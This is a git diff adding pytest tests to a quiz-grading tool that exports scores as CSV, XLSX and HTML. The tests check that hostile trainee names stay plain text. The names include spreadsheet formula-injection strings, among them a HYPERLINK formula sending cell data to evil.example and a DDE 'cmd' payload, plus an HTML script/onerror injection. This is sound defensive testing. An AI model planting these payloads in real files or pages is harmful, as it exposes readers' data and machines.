@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import random
 import subprocess
 import sys
@@ -14,8 +15,10 @@ import zipfile
 from pathlib import Path
 
 import pytest
+from openpyxl import Workbook, load_workbook
 
 from generator.quiz.scoring import Trainee
+from generator.results.result_files import scores_csv, scores_xlsx
 from generator.results.roster import read_roster
 from generator.results.tables import MAX_FIELD_CHARS, decode_text, read_table, read_tables
 
@@ -24,6 +27,15 @@ from .helpers import REPO, hand_rows, moodle_rows, quizzes, random_answers, writ
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
                  "＝1+1", "=cmd|' /C calc'!A0"]
+
+MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script>"
+
+
+def _markup_shown_as_text(page: Path) -> None:
+    """A name with HTML in it reaches a page as the text it is, never as an element."""
+    html = page.read_text(encoding="utf-8")
+    assert MARKUP not in html and "<img src=x" not in html and "<script>alert" not in html, page.name
+    assert "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in html, page.name
 
 
 def _people(n: int, seed: int = 5, label: str = "A") -> list[tuple[Trainee, str, dict[str, list[int]]]]:
@@ -54,18 +66,21 @@ def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path
     for i, (t, label, answers) in enumerate(_people(len(HOSTILE_NAMES))):
         people.append((Trainee(HOSTILE_NAMES[i], f"=E{i}", "=1+1" if i % 2 else "@店", "-岗位"), label, answers))
     people.append((Trainee("控制\x1b[31m字符\x07", "E999", "一店", "置业顾问"), "A", _all_right(quizzes()["A"])))
-    table = write_csv(tmp_path / "=evil.csv", hand_rows(quizzes(), people))
+    people.append((Trainee(MARKUP, "E998", "<b>店</b>", "置业顾问"), "A", _all_right(quizzes()["A"])))
+    rows = hand_rows(quizzes(), people)
+    choice = next(n for n, q in enumerate(quizzes()["A"]["questions"]) if not isinstance(q["answer"], list))
+    rows[-1][5 + choice] = "AB"  # two answers: the markup name gets a card in review.html
+    table = write_csv(tmp_path / "=evil.csv", rows)
     out = tmp_path / "results"
     r = run_cli("grade", str(table), "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
     assert r.code == 0, r.err
     assert "Traceback" not in r.err and "\x1b" not in r.out + r.err and "\x07" not in r.out + r.err
+    _markup_shown_as_text(out / "review.html")
 
     with (out / "scores.csv").open(encoding="utf-8-sig", newline="") as f:
         cells = [c for row in csv.reader(f) for c in row]
     assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")" in cells
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")], "a formula start left unguarded"
-
-    from openpyxl import load_workbook
 
     ws = load_workbook(out / "scores.xlsx").active
     values = [c for row in ws.iter_rows() for c in row if c.value is not None]
@@ -78,10 +93,47 @@ def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path
     r = run_cli("report", str(out / "results.json"), "--out", str(report_out), "--content", str(REPO / "content"),
                 "--quizzes", str(REPO / "quizzes"), cwd=tmp_path)
     assert r.code == 0, r.err
+    _markup_shown_as_text(report_out / "report.html")
+    _markup_shown_as_text(report_out / "trainees.html")
     wb = load_workbook(report_out / "report.xlsx")
     formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
     assert formulas == []
     assert HOSTILE_NAMES[0] in [c.value for row in wb["成绩"].iter_rows() for c in row]
+
+
+def test_cells_xlsx_forbids_are_escaped_and_formula_starts_stay_text(tmp_path):
+    """The writers themselves, fed raw text (not yet escaped by the readers): no control character
+    makes the XLSX fail or go missing, no text becomes a formula, numbers stay numbers."""
+    texts = ["a\x00b", "\x1b[31m红", "\x07\x0b\x0c", *HOSTILE_NAMES, "-", "普通"]
+    table = [["姓名", "得分"]] + [[t, -1.5] for t in texts]
+    path = tmp_path / "s.xlsx"
+    path.write_bytes(scores_xlsx(table))
+    rows = list(load_workbook(path).active.iter_rows(min_row=2))
+    assert [r[0].value for r in rows][:3] == ["a\\x00b", "\\x1b[31m红", "\\x07\\x0b\\x0c"]
+    assert [r[0].value for r in rows][3:] == [*HOSTILE_NAMES, "-", "普通"]
+    assert all(r[0].data_type == "s" for r in rows) and all(r[1].value == -1.5 for r in rows)
+    cells = list(csv.reader(io.StringIO(scores_csv(table).decode("utf-8-sig"), newline="")))
+    assert [row[0] for row in cells[1:]][3:] == ["'" + t for t in HOSTILE_NAMES] + ["'-", "普通"]
+    assert all(row[1] == "-1.5" for row in cells[1:])  # a number is no formula: left as it is
+
+
+def test_a_file_name_that_is_not_utf8_is_named_visibly(quiz_dir, tmp_path):
+    """成绩.csv saved by a Chinese Windows PC and unzipped here: its name is GBK bytes, not UTF-8. It is
+    graded, and named as \\xNN in messages, results.json and the tables (it used to be an internal error)."""
+    qs = quizzes()
+    quiz = qs["A"]
+    people = [(t, a) for t, _, a in _people(2)]
+    rows = moodle_rows(quiz, people, chinese=True, order=list(range(len(quiz["questions"]))), question_text=True)
+    name = os.fsdecode("成绩".encode("gbk") + b".csv")
+    write_csv(tmp_path / name, rows)
+    out = tmp_path / "results"
+    r = run_cli("grade", name, "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
+    assert r.code == 0 and "Traceback" not in r.err and "内部错误" not in r.err, r.err
+    shown = ("成绩".encode("gbk") + b".csv").decode("utf-8", "backslashreplace")  # \\xb3ɼ\\xa8.csv
+    assert shown.startswith("\\xb3")
+    assert shown in r.out  # the note saying how the export was read
+    data = json.loads((out / "results.json").read_text(encoding="utf-8"))
+    assert [s["source"] for s in data["sheets"]] == [f"{shown} 第 {n} 行" for n in (2, 3)]
 
 
 def test_control_characters_in_a_header_are_escaped_in_messages(tmp_path):
@@ -168,8 +220,6 @@ def test_big5_and_utf16_rosters_read_right_and_an_unclear_encoding_is_refused(tm
 
 
 def test_every_worksheet_is_read(tmp_path):
-    from openpyxl import Workbook
-
     qs = quizzes()
     wb = Workbook()
     first = wb.active
@@ -216,8 +266,6 @@ def _peak_rss_mb(code: str) -> tuple[float, str]:
 
 
 def test_a_cell_at_xfd1048576_is_refused_before_it_is_allocated(tmp_path):
-    from openpyxl import Workbook
-
     wb = Workbook()
     ws = wb.active
     ws.append(["姓名", "1"])
